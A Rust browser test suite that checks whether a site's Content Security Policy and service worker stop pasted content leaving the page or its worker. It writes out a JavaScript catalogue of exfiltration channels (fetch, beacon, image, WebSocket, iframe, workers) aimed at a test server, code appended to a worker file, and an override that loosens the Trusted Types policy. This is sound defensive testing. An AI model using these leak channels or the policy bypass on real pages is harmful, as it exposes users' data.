//! What is pasted stays here: neither the page nor its worker can send anything anywhere.

use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use pychain_browser::driver::{Options, PATIENCE};
use pychain_browser::visit::Visit;
use pychain_site::build::Site;
use pychain_site::server::Server;
use serde_json::json;

use crate::{built, name_of, visit, visit_site};

/// Every way out that a page has, tried towards an address; those that worked.
const WAYS_OUT: &str = "
    const url = args[0];
    const attempt = async (name, way) => { try { await way(); return [name]; } catch { return []; } };
    const load = (tag, attributes) => new Promise((resolve, reject) => {
        const element = Object.assign(document.createElement(tag), attributes);
        element.onload = resolve; element.onerror = reject;
        document.body.append(element);
        setTimeout(reject, 2000);
    });
    // The driver lets its own scripts evaluate; what they leave for later is the page's.
    const later = (way) => new Promise((resolve, reject) => {
        setTimeout(() => { try { resolve(way()); } catch (error) { reject(error); } });
    });
    const worked = await Promise.all([
        attempt('fetch', () => fetch(url, { mode: 'no-cors' })),
        attempt('post', () => fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' })),
        attempt('image', () => load('img', { src: url })),
        attempt('style', () => load('link', { rel: 'stylesheet', href: url })),
        attempt('socket', () => new Promise((resolve, reject) => {
            const socket = new WebSocket(url.replace('http', 'ws'));
            socket.onopen = resolve; socket.onerror = reject;
        })),
        attempt('eval', () => later(() => eval('1'))),
        attempt('function', () => later(() => new Function('return 1')())),
        attempt('script', () => { document.createElement('script').src = url; }),
        attempt('markup', () => { document.createElement('p').innerHTML = '<b>x</b>'; }),
        attempt('worker', () => { new Worker(url); }),
        attempt('own worker', () => { new Worker('./worker.js'); }),
        attempt('blob', () => { new Worker(URL.createObjectURL(new Blob(['1']))); }),
        attempt('service worker', () => navigator.serviceWorker.register('./other.js')),
        attempt('policy', () => { trustedTypes.createPolicy('other', {}); }),
    ]);
    // These two do not tell whether they worked; the other server does.
    navigator.sendBeacon(url, 'x');
    await load('iframe', { src: url }).catch(() => undefined);
    return worked.flat();
";

#[test]
fn nothing_leaves_from_the_page() {
    visit(|visit| {
        let url = format!("{}leak", visit.stranger.url());
        let worked = visit.browser.run(WAYS_OUT, &[json!(url)])?;
        ensure!(worked == json!([]), "these worked: {worked}");
        // Each was refused loudly; that is what was wanted here.
        let console = visit.browser.console()?.join("\n");
        ensure!(console.contains("Content Security Policy"), "no word of the policy: {console}");
        // The driver's log has them as attempts; the stranger's tells that none arrived.
        visit.browser.requests().map(drop)?;
        visit.browser.reload()
    });
}

/// Tries to reach the stranger and tells our server, in a name, what came of it.
fn probe(site: &mut Site, stranger: &str) {
    let name = name_of(site, "worker-", ".js");
    let probe = format!(
        "\nfetch('{stranger}leak', {{ mode: 'no-cors' }}).then(() => 'sent', () => 'refused')\
         .then((outcome) => fetch(new URL('./probe-' + self.location.protocol + outcome, import.meta.url)));\n"
    );
    site.get_mut(&name).expect("the worker").extend(probe.into_bytes());
}

fn reports(visit: &Visit, what: &str) -> Result<()> {
    let start = Instant::now();
    let asked = format!("GET /probe-{what}");
    loop {
        let log = visit.site.as_ref().map(Server::log).unwrap_or_default();
        if log.contains(&asked) {
            return Ok(());
        }
        ensure!(start.elapsed() < PATIENCE, "no `{asked}` among {log:#?}");
        thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn nothing_leaves_from_the_worker() {
    let stranger = Server::start(Site::new(), 0).expect("a server");
    let mut site = built();
    probe(&mut site, &stranger.url());
    visit_site(site, &Options::default(), |visit| {
        reports(visit, "blob:refused")?;
        ensure!(stranger.log().is_empty(), "the other server heard: {:?}", stranger.log());
        visit.browser.console().map(drop)?;
        visit.browser.requests().map(drop)?;
        // Without the probe's requests, the log must still be in order.
        visit.browser.open(&visit.url)?;
        visit.browser.console().map(drop)
    });
}

#[test]
fn a_worker_loaded_by_its_address_is_bound_by_the_service_worker() {
    let stranger = Server::start(Site::new(), 0).expect("a server");
    let mut site = built();
    probe(&mut site, &stranger.url());
    let worker = name_of(&site, "worker-", ".js");
    visit_site(site, &Options::default(), |visit| {
        visit.browser.run("await navigator.serviceWorker.ready;", &[])?;
        visit.browser.wait_for("navigator.serviceWorker.controller !== null")?;
        // The page's own policy would not let it: let every address through.
        let lenient = "const create = trustedTypes.createPolicy;
            trustedTypes.createPolicy = function (name) {
                return create.call(this, name, { createScriptURL: (url) => url });
            };";
        visit.browser.devtools("Page.addScriptToEvaluateOnNewDocument", &json!({ "source": lenient }))?;
        visit.browser.reload()?;
        visit.browser.run("new Worker(args[0], { type: 'module' });", &[json!(format!("./{worker}"))])?;
        reports(visit, "http:refused")?;
        ensure!(stranger.log().is_empty(), "the other server heard: {:?}", stranger.log());
        visit.browser.console().map(drop)?;
        visit.browser.requests().map(drop)?;
        visit.browser.open(&visit.url)?;
        visit.browser.console().map(drop)
    });
}
